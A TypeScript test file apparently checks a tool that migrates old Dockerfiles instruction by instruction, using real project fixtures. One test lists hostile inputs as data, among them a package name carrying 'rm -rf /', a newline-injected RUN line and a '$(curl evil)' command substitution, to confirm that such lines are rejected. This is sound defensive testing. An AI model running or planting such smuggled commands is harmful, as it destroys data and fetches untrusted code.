/**
 * The old Dockerfile, instruction by instruction (issue 12, item 3): each one carried over,
 * replaced or not carried over, with the reason; what is carried is a checked value, so nothing
 * in the old file can add an instruction of its own to the new one.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { readOldDockerfile, type Context } from '../lib/old-dockerfile.js';
import { ROOT } from './helpers.js';

const REAL = path.join(ROOT, 'test/fixtures/real');
const CONTEXT: Context = { dependencies: 'requirements.txt', port: 8000, unpinnedAllowed: true, managePy: true };
const old = (fixture: string, file: string, context: Partial<Context> = {}) =>
  readOldDockerfile(file, readFileSync(path.join(REAL, fixture, file), 'utf8'), { ...CONTEXT, ...context });
const verdicts = (o: ReturnType<typeof old>) => o.instructions.map((i) => `${i.verdict}: ${i.text}`);

describe('the old Dockerfile, instruction by instruction', () => {
  it('microblog: RUN pip install x y adds its packages; ENV and EXPOSE carried; flask translate compile is named as not carried', () => {
    const o = old('microblog', 'Dockerfile', { port: 5000 });
    expect(o.packages).toEqual(['gunicorn', 'pymysql', 'cryptography']);
    expect(o.env).toEqual([['FLASK_APP', 'microblog.py']]);
    expect(verdicts(o)).toEqual([
      'replaced: FROM python:slim',
      'replaced: COPY requirements.txt requirements.txt',
      'replaced: RUN pip install -r requirements.txt',
      'carried: RUN pip install gunicorn pymysql cryptography',
      'replaced: COPY app app',
      'replaced: COPY migrations migrations',
      'replaced: COPY microblog.py config.py boot.sh ./',
      'not carried: RUN chmod a+x boot.sh',
      'carried: ENV FLASK_APP=microblog.py',
      'not carried: RUN flask translate compile',
      'carried: EXPOSE 5000',
      'replaced: ENTRYPOINT ["./boot.sh"]',
    ]);
  });

  it('healthchecks: pip wheel packages added, collectstatic and compress moved to the build stage with their variables, apt-get lines read for packages', () => {
    const o = old('healthchecks', 'docker/Dockerfile');
    expect(o.packages).toEqual(['apprise', 'uwsgi', 'mysqlclient', 'minio==7.2.20', 'psycopg[c]']);
    expect(o.buildSteps).toEqual([
      { args: ['collectstatic', '--noinput'], env: [['DEBUG', 'False'], ['SECRET_KEY', 'build-key']] },
      { args: ['compress'], env: [['DEBUG', 'False'], ['SECRET_KEY', 'build-key']] },
    ]);
    expect(o.apt).toEqual({ build: ['build-essential', 'libffi-dev', 'libpq-dev', 'libmariadb-dev', 'libcurl4-openssl-dev', 'pkg-config'], runtime: ['libcurl4t64', 'libpq5', 'libmariadb3'] });
    expect(o.env).toEqual([['USE_GZIP_MIDDLEWARE', 'True']]);
    const replaced = o.instructions.filter((i) => i.verdict === 'replaced').map((i) => i.text);
    expect(replaced).toContain('ENV PYTHONUNBUFFERED=1');
    expect(o.instructions.find((i) => i.text.startsWith('HEALTHCHECK'))).toMatchObject({ verdict: 'not carried' });
  });

  it('bakerydemo: the collectstatic step keeps its variables; VIRTUAL_ENV, PATH and PYTHONPATH are replaced; a PORT that differs is not carried', () => {
    const o = old('bakerydemo', 'Dockerfile', { port: 9000 });
    expect(o.buildSteps).toEqual([{ args: ['collectstatic', '--noinput'], env: [['DATABASE_URL', 'postgres://none'], ['REDIS_URL', 'none']] }]);
    expect(o.env).toEqual([['DJANGO_SETTINGS_MODULE', 'bakerydemo.settings.production'], ['DJANGO_DEBUG', 'off']]);
    expect(o.instructions.filter((i) => /^ENV (VIRTUAL_ENV|PATH|PYTHONPATH)=/.test(i.text)).map((i) => i.verdict)).toEqual(['replaced', 'replaced', 'replaced']);
    expect(o.instructions.find((i) => i.text === 'ENV PORT=8000')).toMatchObject({ verdict: 'not carried', reason: 'the app listens on 9000' });
    expect(o.instructions.find((i) => i.text === 'EXPOSE 8000')).toMatchObject({ verdict: 'not carried' });
  });

  it('every instruction of every real fixture is listed, each with a reason', () => {
    for (const [fixture, file] of [['microblog', 'Dockerfile'], ['bakerydemo', 'Dockerfile'], ['healthchecks', 'docker/Dockerfile'], ['recipe-app-api', 'Dockerfile'], ['awesome-compose-fastapi', 'Dockerfile'], ['fastapi-realworld-example-app', 'Dockerfile']] as const) {
      const text = readFileSync(path.join(REAL, fixture, file), 'utf8');
      const o = readOldDockerfile(file, text, CONTEXT);
      const count = text.split('\n').filter((l) => /^[A-Z]+\s/.test(l.trim()) && !l.trim().startsWith('#') && !/^\s/.test(l)).length;
      // ENV lines with several variables are listed per variable, so at least one entry per instruction.
      expect(o.instructions.length, fixture).toBeGreaterThanOrEqual(count);
      for (const i of o.instructions) expect(i.reason.length, `${fixture}: ${i.text}`).toBeGreaterThan(10);
    }
  });

  it('a hash-checked install gets no unpinned extras: the packages are named as not carried', () => {
    const o = readOldDockerfile('Dockerfile', 'FROM python:3.12\nRUN pip install gunicorn\n', { ...CONTEXT, unpinnedAllowed: false, dependencies: 'poetry.lock' });
    expect(o.packages).toEqual([]);
    expect(o.instructions[1]).toEqual({ text: 'RUN pip install gunicorn', verdict: 'not carried', reason: 'gunicorn: the install is hash-checked; add it to poetry.lock' });
  });

  it.each([
    ['ENV A="$HOME/x"', 'env'],
    ['ENV B="with \\"quote\\""', 'env'],
    ['RUN pip install "gunicorn; rm -rf /"', 'packages'],
    ['RUN pip install "x\\nRUN evil"', 'packages'],
    ['RUN pip install git+https://example.com/x.git', 'packages'],
    ['RUN python manage.py collectstatic --settings="$(curl evil)"', 'buildSteps'],
    ['RUN A="a b" python manage.py collectstatic', 'buildSteps'],
    ['RUN python manage.py shell -c "import os"', 'buildSteps'],
  ] as const)('hostile: %s carries nothing', (line, field) => {
    const o = readOldDockerfile('Dockerfile', `FROM python:3.12\n${line}\n`, CONTEXT);
    expect(o[field]).toEqual([]);
    expect(o.instructions[1].verdict).toBe('not carried');
  });

  it('a frontend stage is named as not carried, with every instruction of it', () => {
    const o = readOldDockerfile('Dockerfile', 'FROM node:20 AS web\nRUN npm ci && npm run build\nFROM python:3.12\nCOPY --from=web /dist /app/static\n', CONTEXT);
    expect(verdicts(o)).toEqual(['not carried: FROM node:20 AS web', 'not carried: RUN npm ci && npm run build', 'replaced: FROM python:3.12', 'not carried: COPY --from=web /dist /app/static']);
  });
});
